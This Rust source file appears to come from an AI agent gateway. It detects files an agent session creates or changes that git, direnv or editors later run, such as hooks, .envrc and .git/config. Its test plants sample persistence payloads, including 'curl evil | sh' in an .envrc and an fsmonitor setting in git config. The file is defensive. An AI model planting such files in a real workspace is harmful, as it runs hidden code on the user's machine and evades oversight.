//! What the agent leaves behind for the user's own programs to run later (docs/KERNEL.md,
//! "What the agent leaves behind"): files that git, direnv, editors and hook managers run or
//! load when the user next works in the workspace. `sandbox.read_only` keeps the ones that
//! exist at the start as they were; what it cannot cover (a file that did not exist: a new
//! hook, a `.git/commondir`, an `.envrc`) is found here, by comparing each watched path of
//! each writable root before and after the session, and reported: a `left_behind` record
//! and a line on the terminal, so the user reviews them before running git there.
use gatewayd_core::policy::Sandbox;
use std::{
    os::unix::fs::MetadataExt as _,
    path::{Path, PathBuf},
};

/// Paths below a writable root that a user's tools run or load later, beyond the built-in
/// read-only ones ([`Sandbox::READ_ONLY_BELOW_ROOTS`], watched too: a new one is reported).
/// A directory is watched with its entries (one level).
pub(crate) const WATCHED_TOO: &[&str] =
    &[".gitattributes", ".gitmodules", ".env.sh", ".lefthook.yml"];

/// Every watched path below a writable root.
fn watched() -> impl Iterator<Item = &'static str> {
    Sandbox::READ_ONLY_BELOW_ROOTS
        .into_iter()
        .chain(WATCHED_TOO.iter().copied())
}

/// What one path was: absent, or its inode, times and size (a directory: each entry's too).
#[derive(Debug, Clone, PartialEq, Eq)]
enum State {
    Absent,
    Present(Stamp, Vec<(std::ffi::OsString, Stamp)>),
}

type Stamp = (u64, i64, i64, u64, u32);

fn stamp(m: &std::fs::Metadata) -> Stamp {
    (m.ino(), m.mtime(), m.mtime_nsec(), m.size(), m.mode())
}

fn state_of(p: &Path) -> State {
    let Ok(m) = std::fs::symlink_metadata(p) else {
        return State::Absent;
    };
    let mut entries: Vec<(std::ffi::OsString, Stamp)> = if m.is_dir() {
        std::fs::read_dir(p)
            .into_iter()
            .flatten()
            .flatten()
            .filter_map(|e| Some((e.file_name(), stamp(&e.metadata().ok()?))))
            .collect()
    } else {
        Vec::new()
    };
    entries.sort();
    State::Present(stamp(&m), entries)
}

/// The watched paths of the writable roots as they were at the start.
#[derive(Debug)]
pub(crate) struct Snapshot {
    before: Vec<(PathBuf, State)>,
}

impl Snapshot {
    /// Takes the watched paths below each of `roots` (the policy's writable roots and its
    /// `root`).
    pub(crate) fn take(roots: &[PathBuf]) -> Snapshot {
        let mut before: Vec<(PathBuf, State)> = Vec::new();
        for root in roots {
            for rel in watched() {
                let p = root.join(rel);
                if !before.iter().any(|(q, _)| *q == p) {
                    let s = state_of(&p);
                    before.push((p, s));
                }
            }
        }
        Snapshot { before }
    }

    /// The watched paths that are not as they were: created, changed or removed.
    pub(crate) fn changed(&self) -> Vec<PathBuf> {
        self.before
            .iter()
            .filter(|(p, s)| state_of(p) != *s)
            .map(|(p, _)| p.clone())
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_new_hook_an_envrc_and_a_changed_config_are_found() {
        let d = tempfile::tempdir().unwrap();
        let ws = d.path().to_path_buf();
        std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
        std::fs::write(ws.join(".git/config"), "[core]\n").unwrap();
        std::fs::write(ws.join("main.rs"), "fn main() {}\n").unwrap();
        let snap = Snapshot::take(std::slice::from_ref(&ws));
        assert!(snap.changed().is_empty());
        // Ordinary work is not reported.
        std::fs::write(ws.join("main.rs"), "fn main() { changed() }\n").unwrap();
        assert!(snap.changed().is_empty());
        std::fs::write(ws.join(".git/hooks/pre-commit"), "#!/bin/sh\nevil\n").unwrap();
        std::fs::write(ws.join(".envrc"), "curl evil | sh\n").unwrap();
        std::fs::write(ws.join(".git/config"), "[core]\n\tfsmonitor = ./x\n").unwrap();
        let changed = snap.changed();
        for p in [".git/hooks", ".envrc", ".git/config"] {
            assert!(changed.contains(&ws.join(p)), "{p}: {changed:?}");
        }
    }
}
